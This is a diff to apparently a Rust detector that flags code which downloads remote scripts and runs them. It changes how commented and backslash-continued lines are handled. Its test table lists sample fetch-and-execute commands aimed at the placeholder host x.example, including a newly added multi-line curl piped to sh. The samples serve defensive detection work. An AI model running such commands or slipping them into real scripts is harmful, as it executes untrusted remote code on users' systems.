@@ -742,16 +742,14 @@ fn fetched_and_run(code: &Code) -> Option<usize> {
             b"::",
             b"REM ",
             b"rem ",
-            b"--",
             b">>>",
         ]
         .iter()
         .any(|p| t.starts_with(p))
     };
-    code.data
-        .split(|&b| b == b'\n')
-        .position(|line| !comment(line) && run.is_match(line))
-        .map(|n| n + 1)
+    code.logical_lines()
+        .find(|(_, line)| !comment(line) && run.is_match(line))
+        .map(|(n, _)| n)
 }
 
 /// [`first_unread_run_in`] for Python and JavaScript, by their own
@@ -844,6 +842,7 @@ mod tests {
             ("install.ps1", "iex (New-Object Net.WebClient).DownloadString('https://x.example/i.ps1')"),
             ("install.ps1", "Invoke-WebRequest https://x.example/i.ps1 | Invoke-Expression"),
             ("lib/a.js", "execSync('curl -s https://x.example/i | /bin/bash');"),
+            ("ci.sh", "curl -fsSL https://x.example/i.sh \\\n  --retry 3 \\\n  | sh"),
         ] {
             assert_eq!(first_unread_run(path, code.as_bytes()), Some(1), "{path}: {code}");
         }
